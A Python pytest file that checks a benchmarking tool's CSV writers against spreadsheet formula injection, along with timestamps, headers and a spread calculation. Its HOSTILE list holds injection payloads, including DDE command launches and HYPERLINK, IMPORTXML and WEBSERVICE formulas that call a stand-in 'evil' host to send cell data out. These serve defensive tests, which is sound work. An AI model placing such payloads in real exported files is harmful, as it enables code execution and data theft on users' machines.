"""The rows of ess.csv and summary.csv: whatever a machine says, no spreadsheet takes it for a formula."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from autoperfd.core.ess import (
    ESS_COLUMNS,
    cell,
    ess_line,
    line,
    settings_cell,
    spread,
    summary_columns,
    text_of,
    timestamp,
)
from autoperfd.verify import sheets

# What spreadsheets have been made to calculate, fetch or start (threat X1).
HOSTILE = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil/?"&A1,"click")',
    '=IMPORTXML("http://evil","//a")',
    '=WEBSERVICE("http://evil")',
    '=DDE("cmd";"/C calc";"x")',
    "=2+5+cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\x00=1+1",
    "\x0b=1+1",
    "\x1b=1+1",
    " =1+1",
    "   @SUM(1)",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u2028=1+1",
    "\u202e=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    '"=1+1"',
    "'=1+1",
    "''=1+1",
    "a,=1+1",
    "a;=1+1",
    "a\t=1+1",
    "a\n=1+1",
    "a\r=1+1",
    'a",=1+1,"',
    'a";=1+1;"',
    '";=1+1',
    "a\r\n=1+1,b",
]
STARTS = "=+-@＝＋－＠"


def read(text: str, delimiter: str = ",") -> list[list[str]]:
    """What a spreadsheet reads; some take another delimiter where the language of the computer says so."""
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def printable(text: str) -> str:
    return "".join(c if c.isprintable() else " " for c in text)


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_begins_a_formula(text: str, delimiter: str) -> None:
    rows = read(line([text, 1, text]), delimiter)
    assert len(rows) == 1
    for found in rows[0]:
        assert found.strip()[:1] not in set(STARTS)


@pytest.mark.parametrize("text", HOSTILE)
def test_our_own_reader_gets_the_text_back(text: str) -> None:
    ((first, number, last),) = read(line([text, 1, text]))
    assert text_of(first) == text_of(last) == printable(text) and number == "1"


@settings(max_examples=500, deadline=None)
@given(
    st.lists(
        st.text(st.characters(codec="utf-8") | st.sampled_from("=-@;;\"' \t,"), max_size=12), min_size=2, max_size=5
    )
)
def test_any_texts_come_back_and_none_is_a_formula(texts: list[str]) -> None:
    (found,) = read(line(texts))
    assert [text_of(text) for text in found] == [printable(text) for text in texts]
    for delimiter in ",;\t":
        (cells,) = read(line([*texts, "end"]), delimiter)
        assert not any(text.strip()[:1] in set(STARTS) for text in cells)


@given(st.text(st.characters(codec="utf-8", categories=["L", "N", "P", "S"], include_characters=" "), max_size=20))
def test_an_ordinary_text_stands_as_it_is(text: str) -> None:
    if text.strip()[:1] not in (*STARTS, "'") and ";" not in text:
        assert cell(text) == text


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (None, ""),
        (True, "true"),
        (False, "false"),
        (0, "0"),
        (-3, "-3"),
        (1.5, "1.5"),
        (1e300, "1e+300"),
        (10**400, f"1{'0' * 400}"),
        (float("nan"), ""),
        (float("inf"), ""),
        (float("-inf"), ""),
        ("", ""),
        ("600SEC_100B_1PUB", "600SEC_100B_1PUB"),
    ],
)
def test_values_of_ours_are_plain(value: object, text: str) -> None:
    assert cell(value) == text and line([value]) == f"{text}\n"  # type: ignore[arg-type,list-item]


def test_times_are_utc_with_milliseconds() -> None:
    assert timestamp(None) == ""
    assert timestamp(0.0) == "1970-01-01T00:00:00.000Z"
    assert timestamp(1_700_000_000.5) == "2023-11-14T22:13:20.500Z"
    assert timestamp(4_102_444_799.999) == "2099-12-31T23:59:59.999Z"


def test_settings_in_one_cell() -> None:
    assert settings_cell({"duration_secs": 30, "use_reliable": True}) == "duration_secs=30;use_reliable=true"
    assert settings_cell({}) == ""


def test_a_row_of_the_ess() -> None:
    columns = "start_timestamp,end_timestamp,test_name,pings_count,ssh_check_count,end_status,attempt_number"
    assert ",".join(ESS_COLUMNS) == f"{columns},blame,machine,reason,qos_settings,archive"
    running = ess_line(
        started=0.0,
        ended=None,
        test="4SEC_1PUB_1SUB",
        pings=1,
        ssh_checks=2,
        status="running",
        number=1,
        blame="",
        machine="",
        reason="",
        settings={"duration_secs": 4},
        archive="",
    )
    assert running == '1970-01-01T00:00:00.000Z,,4SEC_1PUB_1SUB,1,2,running,1,,,,"duration_secs=4",\n'
    ended = ess_line(
        started=0.0,
        ended=9.25,
        test="4SEC_1PUB_1SUB",
        pings=1,
        ssh_checks=2,
        status="no-data",
        number=3,
        blame="test",
        machine="p1",
        reason='=nothing, "really"',
        settings={"duration_secs": 4},
        archive="data/T/attempt-3.tar.gz",
    )
    assert read(ended) == [
        [
            *("1970-01-01T00:00:00.000Z", "1970-01-01T00:00:09.250Z", "4SEC_1PUB_1SUB", "1", "2", "no-data", "3"),
            *("test", "p1", '\'=nothing, "really"', "duration_secs=4", "data/T/attempt-3.tar.gz"),
        ]
    ]


def test_the_header_of_the_summary() -> None:
    columns = summary_columns(("duration_secs", "datalen_bytes"), ("mbps", "sub_lost"))
    assert columns == (
        *("test_name", "attempt_number", "end_status", "start_timestamp", "end_timestamp"),
        *("duration_secs", "datalen_bytes", "mbps", "sub_lost"),
        *("sub_lost_mean", "sub_lost_min", "sub_lost_max", "archive"),
    )


@pytest.mark.parametrize(
    ("listed", "values"),
    [
        ("1;2.5;4", [2.5, 1, 4]),
        ("0.1;0.2;0.4", [0.2333, 0.1, 0.4]),
        ("7", [7, 7, 7]),
        (7, [7, 7, 7]),
        ("1;;3", [None, None, None]),  # a mean of those that are known would flatter
        ("", [None, None, None]),
        (None, [None, None, None]),
        ("1.5e308;1.5e308", [int(1.5e308)] * 3),  # their sum is more than a float holds
        ("1;nan", [None, None, None]),
        ("1;1e999", [None, None, None]),
        ("1;x", [None, None, None]),
    ],
)
def test_the_spread_over_subscribers(listed: str | int | None, values: list[float | None]) -> None:
    assert list(spread({"mbps": "1;2", "sub_lost": listed}, ("mbps", "sub_lost")).values()) == values


@given(st.lists(st.floats() | st.integers() | st.none(), max_size=5))
def test_the_independent_reader_agrees_on_the_spread(values: list[float | None]) -> None:
    listed = ";".join("" if value is None else str(value) for value in values)
    assert list(spread({"sub_mbps": listed}, ("sub_mbps",)).values()) == sheets._spread(listed)
